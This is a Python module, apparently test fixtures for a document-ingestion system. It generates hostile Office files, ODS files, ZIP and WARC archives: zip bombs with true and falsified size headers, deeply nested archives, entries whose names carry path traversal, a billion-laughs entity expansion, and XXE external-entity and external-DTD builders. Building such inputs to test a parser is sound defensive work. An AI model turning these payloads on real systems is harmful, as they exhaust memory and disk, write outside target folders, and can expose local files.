"""Office documents and archives made to do harm: bombs, boxes within boxes, entities, ways to other files."""

import bz2
import gzip
import struct
import zlib
from collections.abc import Iterable
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import docx
import openpyxl

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET_TYPE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SHEET = "xl/worksheets/sheet1.xml"
ODS = b"application/vnd.oasis.opendocument.spreadsheet"
ODS_HEAD = "".join(
    f' xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"' for short in ("office", "table", "text")
)
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
GIGABYTE = 10**9
_ENTRY = struct.Struct("<4s6H3L5H2L")
_LOCAL = struct.Struct("<4s5H3L2H")
_END = struct.Struct("<4s4H2LH")

Parts = dict[str, bytes | str]


def zipped(parts: Parts) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(ZipInfo(name), data, ZIP_DEFLATED)
    return out.getvalue()


def parts_of(data: bytes) -> Parts:
    with ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@cache
def _empty_word() -> bytes:
    out = BytesIO()
    docx.Document().save(out)
    return out.getvalue()


@cache
def _empty_workbook() -> bytes:
    out = BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


def word(body: str, head: str = "", more: Parts | None = None) -> bytes:
    parts = parts_of(_empty_word())
    parts["word/document.xml"] = f"{head}<w:document {W}><w:body>{body}</w:body></w:document>"
    return zipped(parts | (more or {}))


def workbook(rows: str, head: str = "", more: Parts | None = None) -> bytes:
    parts = parts_of(_empty_workbook())
    parts[SHEET] = f"{head}<worksheet {SHEET_TYPE}><sheetData>{rows}</sheetData></worksheet>"
    return zipped(parts | (more or {}))


def open_sheet(table: str, head: str = "") -> bytes:
    content = f"{head}<office:document-content{ODS_HEAD}><office:body><office:spreadsheet>{table}</office:spreadsheet>"
    return zipped({"mimetype": ODS, "content.xml": content + "</office:body></office:document-content>"})


def w_p(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def x_c(words: str) -> str:
    return f'<row r="1"><c r="A1" t="inlineStr"><is><t>{words}</t></is></c></row>'


def o_c(words: str) -> str:
    row = f"<table:table-row><table:table-cell><text:p>{words}</text:p></table:table-cell></table:table-row>"
    return f'<table:table table:name="a">{row}</table:table>'


def spaces_packed(size: int) -> bytes:
    """A stream that unpacks to so many spaces, a thousandth as long; made without packing them all."""
    step = 1_000_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(b"")
    one = packer.compress(b" " * step) + packer.flush(zlib.Z_FULL_FLUSH)
    return one * (size // step) + packer.flush()


def bomb(name: str, others: Parts, stated: int, size: int = 4 * GIGABYTE) -> bytes:
    """A ZIP with one part of so many bytes, whatever size it states, beside others."""
    small = zipped({one: data for one, data in others.items() if one != name})
    with ZipFile(BytesIO(small)) as archive:
        at, count = archive.start_dir, len(archive.infolist())
    head, packed = name.encode(), spaces_packed(size)
    facts = (20, 0, 8, 0, 33, 0, len(packed), stated, len(head), 0)
    local = _LOCAL.pack(b"PK\x03\x04", *facts) + head + packed
    entry = _ENTRY.pack(b"PK\x01\x02", 20, *facts, 0, 0, 0, 0, at) + head
    directory = small[at : small.rindex(b"PK\x05\x06")] + entry
    end = _END.pack(b"PK\x05\x06", 0, 0, count + 1, count + 1, len(directory), at + len(local), 0)
    return small[:at] + local + directory + end


def word_bomb() -> bytes:
    return bomb("word/document.xml", parts_of(_empty_word()), 4 * GIGABYTE)


def word_bomb_that_lies() -> bytes:
    return bomb("word/document.xml", parts_of(_empty_word()), 1_000)


def workbook_bomb() -> bytes:
    return bomb(SHEET, parts_of(_empty_workbook()), 4 * GIGABYTE)


def open_sheet_bomb() -> bytes:
    return bomb("content.xml", {"mimetype": ODS}, 4 * GIGABYTE)


def archive_bomb() -> bytes:
    return bomb("told.txt", {"other.txt": b"x"}, 4 * GIGABYTE)


def archive_bomb_that_lies() -> bytes:
    return bomb("told.txt", {"other.txt": b"x"}, 1_000)


def archive_bomb_by_the_block(name: str = "told.txt", size: int = 4 * GIGABYTE) -> bytes:
    """Packed by bzip2, of which fifty bytes become forty-five million."""
    step = 45_000_000
    head, packed = name.encode(), bz2.compress(bytes(step)) * (size // step)
    facts = (46, 0, 12, 0, 33, 0, len(packed), size, len(head), 0)
    local = _LOCAL.pack(b"PK\x03\x04", *facts) + head + packed
    entry = _ENTRY.pack(b"PK\x01\x02", 46, *facts, 0, 0, 0, 0, 0) + head
    return local + entry + _END.pack(b"PK\x05\x06", 0, 0, 1, 1, len(entry), len(local), 0)


def archive_of_one_file_a_thousand_times() -> bytes:
    """Every entry of the directory leads to the same bytes."""
    head, packed = b"0000.txt", spaces_packed(10_000_000)
    facts = (20, 0, 8, 0, 33, 0, len(packed), 10_000_000, len(head), 0)
    local = _LOCAL.pack(b"PK\x03\x04", *facts) + head + packed
    entries = [_ENTRY.pack(b"PK\x01\x02", 20, *facts, 0, 0, 0, 0, 0) + b"%04d.txt" % n for n in range(1_000)]
    directory = b"".join(entries)
    return local + directory + _END.pack(b"PK\x05\x06", 0, 0, 1_000, 1_000, len(directory), len(local), 0)


def archive_of_entries_alone(size: int = 120_000_000) -> bytes:
    """Nothing but a directory, of entries that each cost the library memory."""
    entry = _ENTRY.pack(b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    count = size // len(entry)
    local = _LOCAL.pack(b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"a"
    few = min(count, 65_535)
    return local + entry * count + _END.pack(b"PK\x05\x06", 0, 0, few, few, len(entry) * count, len(local), 0)


def archives_within_archives(deep: int = 50) -> bytes:
    made = zipped({"told.txt": "24 prisoners were killed in Marrow."})
    for _ in range(deep):
        made = zipped({"within.zip": made})
    return made


def archive_with_ways_out() -> bytes:
    names = (
        "../../out.txt",
        "/etc/out.txt",
        "..\\..\\out.txt",
        "C:\\out.txt",
        "a/../../out.txt",
        "~/out.txt",
        "\u202eout.txt",
    )
    return zipped({f"{name}": "12 prisoners were killed in the town of Marrow on 3 May 2004." for name in names})


def locked_archive() -> bytes:
    return _locked(zipped({"told.txt": "12 prisoners were killed."}))


def locked_word() -> bytes:
    return OLD_OFFICE + "EncryptedPackage".encode("utf-16-le") + bytes(200)


def locked_open_sheet() -> bytes:
    manifest = "<manifest:encryption-data xmlns:manifest='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'/>"
    return zipped({"mimetype": ODS, "content.xml": bytes(range(256)), "META-INF/manifest.xml": manifest})


def _locked(data: bytes) -> bytes:
    """With the mark of a password on every entry."""
    made = bytearray(data)
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(sign)
        while at >= 0:
            made[at + offset] |= 1
            at = made.find(sign, at + 4)
    return bytes(made)


def web_archive_bomb(size: int = 4 * GIGABYTE) -> bytes:
    head = b"WARC/1.0\r\nWARC-Type: resource\r\nWARC-Target-URI: http://example.org/\r\nContent-Type: text/plain\r\n"
    head += b"WARC-Date: 2004-05-04T10:00:00Z\r\nWARC-Record-ID: <urn:uuid:0>\r\nContent-Length: %d\r\n\r\n" % size
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    step = 1_000_000
    begun = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(b" " * step) + packer.flush(zlib.Z_FULL_FLUSH)
    return begun + one * (size // step) + packer.flush()


def gzip_named_warc() -> bytes:
    return gzip.compress(b"no record at all")


def laughs(type_: str = "w") -> str:
    """A billion words in ten lines."""
    lines = "".join(f"<!ENTITY {chr(98 + at)} '{f'&{chr(97 + at)};' * 10}'>" for at in range(9))
    return f"<!DOCTYPE {type_} [<!ENTITY a 'ha'>{lines}]>"


def entity(to: str, type_: str = "w") -> str:
    """An entity ``x`` that stands for what lies at an address."""
    return f'<?xml version="1.0"?><!DOCTYPE {type_} [<!ENTITY x SYSTEM "{to}">]>'


def type_elsewhere(to: str, type_: str = "w") -> str:
    """A type of document that is declared elsewhere."""
    return f'<?xml version="1.0"?><!DOCTYPE {type_} SYSTEM "{to}">'


def relations(*targets: tuple[str, str]) -> str:
    """Relations of an office document that lead out of it, each of a kind."""
    begin = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    lines: Iterable[str] = (
        f'<Relationship Id="rOut{at}" Type="{kind}/{of}" Target="{to}" TargetMode="External"/>'
        for at, (of, to) in enumerate(targets)
    )
    return begin + "".join(lines) + "</Relationships>"
